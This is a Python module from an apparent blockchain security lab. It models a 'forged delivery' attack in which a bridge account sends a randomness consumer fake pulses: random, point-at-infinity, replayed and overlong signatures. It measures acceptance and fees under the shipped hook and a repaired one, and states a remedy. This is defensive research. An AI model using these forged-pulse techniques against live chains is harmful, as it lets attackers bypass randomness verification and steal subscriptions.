"""Anybody with an account at the bridge delivers what it likes: the filter lets the account in, only a check stops it.

A delivery descends into the subscriber's account, so a consumer admits all accounts of the bridge. The shipped hook
checks a pulse, writes the answer into a log and takes the pulse in any case. Even its check is no help against the
point at infinity with a range that ends before it starts, since the empty sum is signed by it, and against a true pulse
that comes again. A long range is added up before the signature is looked at, for the same fixed weight. The mended hook
refuses all of these before it verifies anything, and its weight is that of its work.
"""

from __future__ import annotations

import random

from drandlab.attacks.attack import Attack, AttackOutcome, AttackParameter
from drandlab.attacks.linked_chains import LinkedChains
from drandlab.attacks.small_bridge import CONSUME_PULSE, CONSUMER, MALLORY
from drandlab.attacks.small_chain import pulse_of
from drandlab.idn.pulses import Pulse
from drandlab.idn.runtime.calls import signed
from drandlab.idn.runtime.weights import Weight, db_weight
from drandlab.idn.subscriptions import policies
from drandlab.idn.xcm.delivery_message import delivery_message
from drandlab.idn.xcm.locations import sibling
from drandlab.idn.xcm.versioned import VersionedLocation, VersionedXcm
from drandlab.idn.xcm_execution.prices import WeightPrice

__all__ = ["ATTACK"]

CAP, SPAN = 10**12, 1 << 40
PLAIN = Weight(7 * 1_000_000_000 + 7_545_079_000)
"""What the message weighs where the hook weighs nothing."""

PULSES = ("random", "infinity", "again", "long", "true")
TAKEN = {"random": False, "infinity": True, "again": True, "long": None, "true": True}
"""What the shipped check says to each; None where it does not come to an end in time."""


def _theory(pulse: str, hooks: str) -> AttackOutcome:
    if hooks == "shipped":
        return {"accepted": True, "checked": TAKEN[pulse], "charged": WeightPrice().of(PLAIN)}
    rounds = {"long": 0, "infinity": 0}.get(pulse, 1)
    check = Weight(14_446_000_000 + 1_955_000_000 * rounds) + db_weight(1, 1)
    return {"accepted": pulse == "true", "checked": pulse == "true", "charged": WeightPrice().of(PLAIN + check)}


def _forged(pulse: str, first: int, rng: random.Random) -> Pulse:
    match pulse:
        case "random":
            return Pulse(signature=rng.randbytes(48), start=first + 1, end=first + 1)
        case "infinity":
            return Pulse(signature=b"\xc0" + bytes(47), start=first + 2, end=first + 1)
        case "long":
            return Pulse(signature=bytes(48), start=0, end=SPAN)
        case _:
            round = first if pulse == "again" else first + 1
            return pulse_of(round, round)


def _measure(seed: int, *, pulse: str, hooks: str) -> AttackOutcome:
    first = 1 + seed % 1000
    chains = LinkedChains(policies["deployed"], first=first, hooks=hooks)
    sub = chains.create(10)
    chains.pulse()
    chains.settle()
    before, there = len(chains.consumer.events("RandomnessConsumed")), chains.consumer.free(MALLORY)
    call = CONSUME_PULSE + _forged(pulse, first, random.Random(f"{seed}/forged delivery")).to_scale() + sub
    message = VersionedXcm(5, delivery_message(call, fee=CAP, subscriber=MALLORY))
    written = {"dest": VersionedLocation(5, sibling(CONSUMER)), "message": message}
    chains.bridge.plan("PolkadotXcm", "send", signed(MALLORY), **written)
    chains.step()
    chains.settle()
    return {
        "accepted": len(chains.consumer.events("RandomnessConsumed")) > before,
        "checked": chains.verdicts[-1],
        "charged": there - chains.consumer.free(MALLORY),
    }


ATTACK = Attack(
    name="forged_delivery",
    about="An account of the bridge sends a consumer a pulse of its own for somebody else's subscription.",
    parameters={
        "pulse": AttackParameter("random", "what it sends", choices=PULSES),
        "hooks": AttackParameter("shipped", "what the consumer does with pulses", choices=("shipped", "checking")),
    },
    sources=("Ideal Network SDK, December 2025: pallet-idn-consumer and its example",),
    remedy="Refuse false, empty, long and old pulses, in this order: range, point, round, signature.",
    theory=_theory,
    measure=_measure,
)
